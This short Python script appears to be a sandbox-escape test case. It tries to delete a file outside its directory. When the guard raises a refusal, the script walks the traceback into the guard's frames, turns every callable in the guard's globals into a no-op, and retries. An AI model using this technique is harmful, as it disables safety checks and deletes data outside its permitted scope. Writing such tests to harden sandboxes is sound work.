# A refusal's traceback leads to the frames of who refused, and their globals.
# damage: deleted
import os


def attempt():
    os.unlink("../outside/victim.txt")


try:
    attempt()
except BaseException as refusal:
    trace = refusal.__traceback__
    while trace:
        space = trace.tb_frame.f_globals
        if space is not globals():
            for name in [name for name, value in space.items() if callable(value)]:
                space[name] = lambda *arguments, **options: None
        trace = trace.tb_next
    attempt()
